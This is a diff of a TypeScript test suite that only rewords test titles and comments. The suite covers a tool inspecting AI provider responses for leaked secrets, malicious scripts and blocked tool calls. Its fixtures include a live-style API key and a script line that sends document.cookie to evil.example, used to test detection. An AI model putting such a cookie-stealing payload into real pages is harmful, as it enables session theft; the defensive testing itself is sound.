@@ -10,7 +10,7 @@ import { NO_MEMORY } from '../../../apps/desktop/src/inspect/text-memory.ts';
 import { testPolicy } from '../../support/desktop/stand.ts';
 import { ANSWER_FORMS } from '../../support/provider/answers.ts';
 
-// Put together here, so that no file holds a whole one.
+// Assembled here, so that no file contains a whole one.
 const KEY = ['sk', 'live', '51H8xQ2eZvKYlo2CzT9mNb4Rw7Gd'].join('_');
 const bytes = (text: string) => new TextEncoder().encode(text);
 const requestUnder = (part: Partial<DevicePolicy>) => ({
@@ -29,7 +29,7 @@ const tools = {
   newEventId: () => `evt_${++ids}`,
 };
 
-test('JSON, odd JSON and text are all read; what gives a key away is held back', async () => {
+test('evaluates JSON, invalid JSON and text, and holds back a response that reveals a key', async () => {
   for (const text of [`{"a":"use ${KEY}"}`, `{"a":"use ${KEY}"`, `use ${KEY}`]) {
     const body = { kind: 'whole', bytes: bytes(text) } as const;
     const verdict = await evaluateResponse(requestUnder({}), newReading({}), body, tools);
@@ -52,7 +52,7 @@ test('JSON, odd JSON and text are all read; what gives a key away is held back',
   assert.deepEqual(verdict, { kind: 'forward', event: null, isUnanswered: false });
 });
 
-test('what cannot be read passes and is reported, or is held back, by policy', async () => {
+test('an unreadable response passes and is reported, or is held back, by policy', async () => {
   for (const failClosed of [false, true]) {
     const body = { kind: 'unread', reason: 'The response is no text.' } as const;
     const verdict = await evaluateResponse(requestUnder({ failClosed }), newReading({}), body, tools);
@@ -60,7 +60,7 @@ test('what cannot be read passes and is reported, or is held back, by policy', a
   }
 });
 
-test('a stream is read until something is on record; then the rest passes', () => {
+test('a stream is evaluated up to the first recorded finding; then the rest passes', () => {
   const watch = watchResponse(requestUnder({ mode: 'monitor' }), newReading({}), false, tools);
   assert.deepEqual(watch.push(bytes('nothing')), { kind: 'forward', event: null });
   const found = watch.push(bytes(` use ${KEY}`));
@@ -68,7 +68,7 @@ test('a stream is read until something is on record; then the rest passes', () =
   assert.deepEqual(watch.push(bytes(` and ${KEY}`)), { kind: 'forward', event: null });
 });
 
-test('a character that is cut between two pieces is one all the same', () => {
+test('a character that is split between two pieces is decoded correctly', () => {
   const watch = watchResponse(requestUnder({}), newReading({}), false, tools);
   const text = bytes(`ключ ${KEY}`);
   assert.equal(watch.push(text.subarray(0, 3)).kind, 'forward');
@@ -76,7 +76,7 @@ test('a character that is cut between two pieces is one all the same', () => {
   assert.deepEqual([verdict.kind, verdict.kind === 'block' && verdict.frame], ['block', null]);
 });
 
-test('an event stream ends with a frame that names the event', () => {
+test('a blocked event stream ends with a frame that names the event', () => {
   const watch = watchResponse(requestUnder({}), newReading({}), true, tools);
   const verdict = watch.push(bytes(`data: {"choices":[{"index":0,"delta":{"content":"use ${KEY}"}}]}\n\n`));
   assert.ok(verdict.kind === 'block' && verdict.frame !== null);
@@ -85,7 +85,7 @@ test('an event stream ends with a frame that names the event', () => {
 });
 
 const MASK = '[NAME_ABCDEFGH]';
-/** A request in which `value` was masked. */
+/** Returns a request in which `value` was masked. */
 const masking = (value: string): RequestReading =>
   newReading({
     format: formatByName('openai-chat'),
@@ -102,7 +102,7 @@ const answered = (
   return evaluateResponse(requestUnder(part), prompt, { kind: 'whole', bytes: bytes(body), isEvents }, tools);
 };
 
-test('what was masked is put back, whole and streamed; without a mask the response is as it came', async () => {
+test('masked values are restored, whole and streamed; without a mask the response is unchanged', async () => {
   for (const isEvents of [false, true]) {
     const verdict = await answered(masking('Anna Lindqvist'), `Dear ${MASK}, hello.`, {}, isEvents);
     assert.ok(verdict.kind === 'forward' && verdict.bytes !== undefined);
@@ -116,7 +116,7 @@ test('what was masked is put back, whole and streamed; without a mask the respon
   }
 });
 
-test('a response is judged as it was sent and as it is with the values put back', async () => {
+test('a response is evaluated both as sent and with the values restored', async () => {
   const key = await answered(masking('Anna'), `Dear ${MASK}, use ${KEY}`);
   assert.deepEqual([key.kind, key.event?.threatType], ['block', 'secret_leak']);
   const script = masking('<script>fetch("https://evil.example/?c=" + document.cookie)</script>');
@@ -130,12 +130,12 @@ test('a response is judged as it was sent and as it is with the values put back'
   const watched = await answered(script, `Dear ${MASK}, hello.`, { ruleset, mode: 'monitor' });
   assert.ok(watched.kind === 'forward');
   assert.deepEqual([watched.event?.done, watched.event?.threatType], ['forwarded', 'malicious_script']);
-  assert.ok(watched.bytes !== undefined, 'it passes with the value put back');
+  assert.ok(watched.bytes !== undefined, 'it passes with the value restored');
   const both = await answered(script, `Dear ${MASK}, use ${KEY}`, { ruleset, mode: 'monitor' });
-  assert.equal(both.event?.threatType, 'secret_leak', 'the event is of what was sent');
+  assert.equal(both.event?.threatType, 'secret_leak', 'the event describes the response as sent');
 });
 
-test('a stream that is blocked ends in the form of its provider, other responses in none', async () => {
+test('a blocked stream ends with frames of its provider’s format, other responses without any', async () => {
   const prompt = newReading({ format: formatByName('openai-chat') });
   const streamed = await answered(prompt, `use ${KEY}`, {}, true);
   assert.ok(streamed.kind === 'block');
@@ -149,7 +149,7 @@ test('a stream that is blocked ends in the form of its provider, other responses
   }
 });
 
-test('an exception of a stream is reported once, and what else is found in it still blocks', () => {
+test('an exception in a stream is reported once, and other findings still block', () => {
   const exceptions = [{ id: 'exc_1', host: 'api.openai.com', threats: ['pii_leak' as const], untilMs: 10 }];
   const { ruleset } = testPolicy();
   const policies = [{ id: 'p', action: 'block', threatTypes: ['pii_leak'] }] as const;
@@ -161,7 +161,7 @@ test('an exception of a stream is reported once, and what else is found in it st
   assert.equal(watch.push(bytes(` use ${KEY}`)).kind, 'block');
 });
 
-test('a call that the lists hold is reported where it is only watched, and blocked elsewhere', async () => {
+test('a call that the lists block is only reported in monitor mode, and blocked otherwise', async () => {
   const { ruleset } = testPolicy();
   const lists = { blocked_tools: ['send_report'], allowed_tools: [], review_required_tools: [] };
   const toolCalls = { lists, flow_control: 'off' as const, effect_tools: [], record_tools: [] };
@@ -178,11 +178,11 @@ test('a call that the lists hold is reported where it is only watched, and block
     assert.equal(verdict.isUnanswered, false);
     const leaking = JSON.stringify(ANSWER_FORMS.chat.whole({ ...says, text: `use ${KEY}` }));
     const first = await evaluateResponse(request, prompt, { ...body, bytes: bytes(leaking) }, tools);
-    if (mode === 'enforce') assert.equal(first.event?.threatType, 'secret_leak', 'what it says comes first');
+    if (mode === 'enforce') assert.equal(first.event?.threatType, 'secret_leak', 'its text comes first');
   }
 });
 
-test('a mark of the byte order stays in a stream into which values are put back', async () => {
+test('a stream keeps its byte order mark when values are restored', async () => {
   const stream = ANSWER_FORMS.chat.frames({ text: `Dear ${MASK}, hello.` }).join('');
   const body = { kind: 'whole', bytes: bytes(`\uFEFF${stream}`), isEvents: true } as const;
   const verdict = await evaluateResponse(requestUnder({}), masking('Anna'), body, tools);
